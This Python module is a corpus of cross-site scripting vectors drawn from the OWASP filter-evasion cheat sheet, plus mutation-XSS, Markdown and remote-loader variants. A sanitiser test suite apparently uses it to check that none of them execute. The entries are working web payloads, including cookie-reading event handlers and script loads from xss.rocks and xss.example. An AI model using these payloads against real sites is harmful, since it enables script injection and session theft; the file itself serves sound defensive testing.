"""An XSS corpus: the vectors of the OWASP XSS Filter Evasion Cheat Sheet, written out, and more
(mutation XSS, Markdown links, JSON-LD break-outs, foreign-resource loaders).

Each entry is (visible, template). "{n}" in a template is replaced by the vector's number and a
letter naming where it is stored, giving a harmless marker such as "XSS-17b". `visible` says whether
a browser shows the marker as text when the vector is rendered as HTML: the sanitised page must
show it too. Scripts call alert/confirm/prompt/console.log or load something from a foreign origin
(xss.example and the cheat sheet's own hosts), which tests/browser/test_xss.py detects.
"""
FOREIGN_SCRIPT = "http://xss.example/xss.js"

_VECTORS: list[tuple[bool, str]] = [
    # --- basic and polyglot
    (False, "<SCRIPT SRC=http://xss.rocks/xss.js?{n}></SCRIPT>"),
    (False, "javascript:/*--></title></style></textarea></script></xmp>"
            "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert('XSS-{n}')//'>"),
    # --- image and link attributes carrying javascript:
    (False, "<IMG SRC=\"javascript:alert('XSS-{n}');\">"),
    (False, "<IMG SRC=javascript:alert('XSS-{n}')>"),
    (False, "<IMG SRC=JaVaScRiPt:alert('XSS-{n}')>"),
    (False, "<IMG SRC=javascript:alert(&quot;XSS-{n}&quot;)>"),
    (False, "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS-{n}'\")`>"),
    (True, "<a onmouseover=\"alert(document.cookie)\">XSS-{n}</a>"),
    (True, "<a onmouseover=alert(document.cookie)>XSS-{n}</a>"),
    (False, "<IMG \"\"\"><SCRIPT>alert(\"XSS-{n}\")</SCRIPT>\"\\>"),
    (False, "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83)) alt=XSS-{n}>"),
    (False, "<IMG SRC=# onmouseover=\"alert('XSS-{n}')\">"),
    (False, "<IMG SRC= onmouseover=\"alert('XSS-{n}')\">"),
    (False, "<IMG onmouseover=\"alert('XSS-{n}')\">"),
    (False, "<IMG SRC=/ onerror=\"alert('XSS-{n}')\"></img>"),
    (False, "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
            "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039XSS-{n}"
            "&#0000039&#0000041\">"),
    # --- entity-encoded schemes
    (False, "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
            "&#116;&#40;&#39;XSS-{n}&#39;&#41;>"),
    (False, "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
            "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039XSS-{n}&#0000039"
            "&#0000041>"),
    (False, "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
            "&#x27XSS-{n}&#x27&#x29>"),
    (True, "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('x')\">XSS-{n}</a>"),
    # --- whitespace and control characters inside the scheme
    (False, "<IMG SRC=\"jav\tascript:alert('XSS-{n}');\">"),
    (False, "<IMG SRC=\"jav&#x09;ascript:alert('XSS-{n}');\">"),
    (False, "<IMG SRC=\"jav&#x0A;ascript:alert('XSS-{n}');\">"),
    (False, "<IMG SRC=\"jav&#x0D;ascript:alert('XSS-{n}');\">"),
    (False, "<IMG SRC=java\x00script:alert(\"XSS-{n}\")>"),
    (False, "<IMG SRC=\" &#14;  javascript:alert('XSS-{n}');\">"),
    (True, "<a href=\"jav\tascript:alert('x')\">XSS-{n}</a>"),
    (True, "<a href=\"&#1;javascript:alert('x')\">XSS-{n}</a>"),
    (True, "<a href=\" \x0bjavascript:alert('x')\">XSS-{n}</a>"),
    (True, "<a href=\"jAvAsCrIpT&colon;alert('x')\">XSS-{n}</a>"),
    (True, "<a href=\"javas&#99;ript:alert('x')\">XSS-{n}</a>"),
    # --- malformed tags and attribute names
    (False, "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS-{n}\")>"),
    (False, "<SCRIPT/SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<<SCRIPT>alert(\"XSS-{n}\");//\\<</SCRIPT>"),
    (False, "<SCRIPT SRC=http://xss.rocks/xss.js?{n}< B >"),
    (False, "<SCRIPT SRC=//xss.rocks/.j?{n}>"),
    (False, "<IMG SRC=\"`javascript:alert(\"XSS-{n}\")\"`"),
    (False, "<iframe src=http://xss.rocks/scriptlet.html?{n} <"),
    (True, "\\\";alert('XSS-{n}');//"),
    (False, "</TITLE><SCRIPT>alert(\"XSS-{n}\");</SCRIPT>"),
    (False, "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS-{n}');\">"),
    (False, "<BODY BACKGROUND=\"javascript:alert('XSS-{n}')\">"),
    (False, "<IMG DYNSRC=\"javascript:alert('XSS-{n}')\">"),
    (False, "<IMG LOWSRC=\"javascript:alert('XSS-{n}')\">"),
    (True, "<STYLE>li {list-style-image: url(\"javascript:alert('x')\");}</STYLE><UL><LI>XSS-{n}</br>"),
    (False, "<IMG SRC='vbscript:msgbox(\"XSS-{n}\")'>"),
    (False, "<IMG SRC=\"livescript:[alert('XSS-{n}')]\">"),
    (False, "<svg/onload=alert('XSS-{n}')>"),
    (True, "Set.constructor`alert\\x28'XSS-{n}'\\x29```"),
    (False, "<BODY ONLOAD=alert('XSS-{n}')>"),
    (False, "<BODY onpageshow=alert('XSS-{n}')>"),
    (True, "<details open ontoggle=alert('x')>XSS-{n}</details>"),
    (True, "<marquee onstart=alert('x')>XSS-{n}</marquee>"),
    (False, "<video><source onerror=\"alert('XSS-{n}')\"></video>"),
    (False, "<audio src=x onerror=alert('XSS-{n}')>"),
    (False, "<input autofocus onfocus=alert('XSS-{n}')>"),
    (False, "<select autofocus onfocus=alert('XSS-{n}')></select>"),
    (False, "<textarea autofocus onfocus=alert('XSS-{n}')></textarea>"),
    (False, "<keygen autofocus onfocus=alert('XSS-{n}')>"),
    (False, "<img src=x:alert(alt) onerror=eval(src) alt='XSS-{n}'>"),
    (False, "<BGSOUND SRC=\"javascript:alert('XSS-{n}');\">"),
    (False, "<BR SIZE=\"&{alert('XSS-{n}')}\">"),
    # --- style sheets and style attributes
    (False, "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS-{n}');\">"),
    (False, "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css?{n}\">"),
    (False, "<STYLE>@import'http://xss.rocks/xss.css?{n}';</STYLE>"),
    (False, "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css?{n}>; REL=stylesheet\">"),
    (False, "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss{n}\")}</STYLE>"),
    (False, "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS-{n}\")';</STYLE>"),
    (False, "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS-{n}'))\">"),
    (True, "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"x\"))'>XSS-{n}</A>"),
    (False, "<STYLE TYPE=\"text/javascript\">alert('XSS-{n}');</STYLE>"),
    (True, "<STYLE>.XSS{background-image:url(\"javascript:alert('x')\");}</STYLE><A CLASS=XSS>XSS-{n}</A>"),
    (False, "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS-{n}')\")}</STYLE>"),
    (True, "<XSS STYLE=\"xss:expression(alert('x'))\">XSS-{n}</XSS>"),
    (True, "<XSS STYLE=\"behavior: url(xss.htc);\">XSS-{n}</XSS>"),
    (True, "<DIV STYLE=\"background-image: url(javascript:alert('x'))\">XSS-{n}</DIV>"),
    (True, "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
           "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'"
           "\\0029\">XSS-{n}</DIV>"),
    (True, "<DIV STYLE=\"background-image: url(&#1;javascript:alert('x'))\">XSS-{n}</DIV>"),
    (True, "<DIV STYLE=\"width: expression(alert('x'));\">XSS-{n}</DIV>"),
    (True, "<div style=\"background:url(http://xss.example/b.png?{n})\">XSS-{n}</div>"),
    (True, "<style>@import url(http://xss.example/x.css?{n})</style>XSS-{n}"),
    (True, "¼script¾alert(¢XSS-{n}¢)¼/script¾"),
    # --- meta, frames, tables, base, objects
    (False, "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS-{n}');\">"),
    (False, "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
            "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K#{n}\">"),
    (False, "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS-{n}');\">"),
    (False, "<meta http-equiv=\"refresh\" content=\"0;url=http://xss.example/{n}\">"),
    (False, "<IFRAME SRC=\"javascript:alert('XSS-{n}');\"></IFRAME>"),
    (False, "<IFRAME SRC=# onmouseover=\"alert('XSS-{n}')\"></IFRAME>"),
    (False, "<iframe srcdoc=\"&lt;script&gt;alert('XSS-{n}')&lt;/script&gt;\"></iframe>"),
    (False, "<FRAMESET><FRAME SRC=\"javascript:alert('XSS-{n}');\"></FRAMESET>"),
    (True, "<TABLE BACKGROUND=\"javascript:alert('x')\"><TR><TD>XSS-{n}</TD></TR></TABLE>"),
    (True, "<TABLE><TD BACKGROUND=\"javascript:alert('x')\">XSS-{n}</TD></TABLE>"),
    (False, "<!--[if gte IE 4]><SCRIPT>alert('XSS-{n}');</SCRIPT><![endif]-->"),
    (False, "<BASE HREF=\"javascript:alert('XSS-{n}');//\">"),
    (False, "<base href=\"http://xss.example/{n}/\">"),
    (False, "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html?{n}\"></OBJECT>"),
    (False, "<object data=\"javascript:alert('XSS-{n}')\"></object>"),
    (False, "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4"
            "bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZlcnNpb249IjEuMCI+PHNjcmlwdD5hbGVydCgiWFNTIik7PC9z"
            "Y3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\" title=\"XSS-{n}\"></EMBED>"),
    (True, "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('x')\">XSS-{n}</B></I></XML>"
           "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"),
    (False, "<XML SRC=\"xsstest.xml?{n}\" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>"),
    (False, "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
            "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
            "to=\"XSS&lt;SCRIPT DEFER&gt;alert('XSS-{n}')&lt;/SCRIPT&gt;\"></BODY></HTML>"),
    (False, "<SCRIPT SRC=\"http://xss.rocks/xss.jpg?{n}\"></SCRIPT>"),
    (False, "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js?{n}>"
            "</SCRIPT>'\"-->"),
    (False, "<? echo('<SCR)';echo('IPT>alert(\"XSS-{n}\")</SCRIPT>'); ?>"),
    (False, "<IMG SRC=\"http://xss.example/somecommand.php?somevariables=maliciouscode{n}\">"),
    (False, "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS-{n}')</SCRIPT>\">"),
    (False, "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>"
            "+ADw-SCRIPT+AD4-alert('XSS-{n}');+ADw-/SCRIPT+AD4-"),
    # --- quote encapsulation around script tags
    (False, "<SCRIPT a=\">\" SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<SCRIPT =\">\" SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<SCRIPT a=\">\" '' SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<SCRIPT \"a='>'\" SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<SCRIPT a=`>` SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (False, "<SCRIPT a=\">'>\" SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>"),
    (True, "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"http://xss.rocks/xss.js?{n}\"></SCRIPT>XSS-{n}"),
    # --- URL string evasion (links only: nothing may load)
    (True, "<A HREF=\"http://66.102.7.147/\">XSS-{n}</A>"),
    (True, "<A HREF=\"http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D\">XSS-{n}</A>"),
    (True, "<A HREF=\"http://1113982867/\">XSS-{n}</A>"),
    (True, "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS-{n}</A>"),
    (True, "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS-{n}</A>"),
    (True, "<A HREF=\"//www.google.com/\">XSS-{n}</A>"),
    (True, "<A HREF=\"/\\xss.example/\">XSS-{n}</A>"),
    (True, "<A HREF=\"http://ha.ckers.org@google\">XSS-{n}</A>"),
    (True, "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS-{n}</A>"),
    (True, "<A HREF=\"http://www.gohttp://www.google.com/ogle.com/\">XSS-{n}</A>"),
    # --- character escape sequences of "<"
    (True, "&#60script&#62alert('XSS-{n}')&#60/script&#62 %3Cscript%3E \\x3cscript \\u003cscript &LT;script&gt;"),
    # --- mutation XSS and namespace confusion
    (False, "<svg><script>alert('XSS-{n}')</script></svg>"),
    (False, "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS-{n}')>"),
    (False, "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS-{n}')>\">"),
    (False, "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('XSS-{n}')>"),
    (True, "<svg><a><animate attributeName=href values=javascript:alert('x') />"
           "<text x=20 y=20>XSS-{n}</text></a></svg>"),
    (True, "<math href=\"javascript:alert('x')\">XSS-{n}</math>"),
    (False, "<svg><animate onbegin=alert('XSS-{n}') attributeName=x dur=1s>"),
    (False, "<form action=\"javascript:alert('XSS-{n}')\"><input type=submit></form>"),
    (True, "<button formaction=\"javascript:alert('x')\">XSS-{n}</button>"),
    (False, "<img srcset=\"http://xss.example/{n}.png 1x\">"),
    (False, "<video poster=\"http://xss.example/{n}.png\"></video>"),
    (False, "<link rel=prefetch href=\"http://xss.example/{n}\">"),
    (True, "<a href=\"https://xss.example/\" ping=\"http://xss.example/ping{n}\">XSS-{n}</a>"),
    # --- attribute, script and template break-outs (names, titles and queries are inserted as text)
    (False, "\"><script>alert('XSS-{n}')</script>"),
    (True, "'-alert('XSS-{n}')-'"),
    (False, "</script><script>alert('XSS-{n}')</script>"),
    (True, "{{7*7}} ${alert('XSS-{n}')} {% raw %}"),
    (True, "\" onmouseover=\"alert('x')\" data-x=\"XSS-{n}"),
    # --- Markdown links and images
    (True, "[XSS-{n}](javascript:alert('x'))"),
    (True, "[XSS-{n}](javascript&#58;alert('x'))"),
    (True, "[XSS-{n}](JaVaScRiPt:alert('x'))"),
    (True, "[XSS-{n}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    (True, "[XSS-{n}](vbscript:msgbox('x'))"),
    (True, "[XSS-{n}](//xss.example/)"),
    (True, "[XSS-{n}][r]\n\n[r]: javascript:alert('x')"),
    (False, "![XSS-{n}](x\" onerror=\"alert('x'))"),
    (False, "<javascript:alert('XSS-{n}')>"),
    (True, "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">XSS-{n}</a>"),
    (True, "`<script>alert('x')</script>` XSS-{n}"),
]


def vectors(where: str) -> list[tuple[int, str | None, str, bool]]:
    """(number, marker, vector, visible) for a place to store them; where is a single letter. The
    marker is None when the vector does not hold one (a bare script address, for instance)."""
    found = []
    for number, (visible, template) in enumerate(_VECTORS, start=1):
        vector = template.replace("{n}", f"{number}{where}")
        marker = f"XSS-{number}{where}"
        found.append((number, marker if marker in vector else None, vector, visible and marker in vector))
    return found
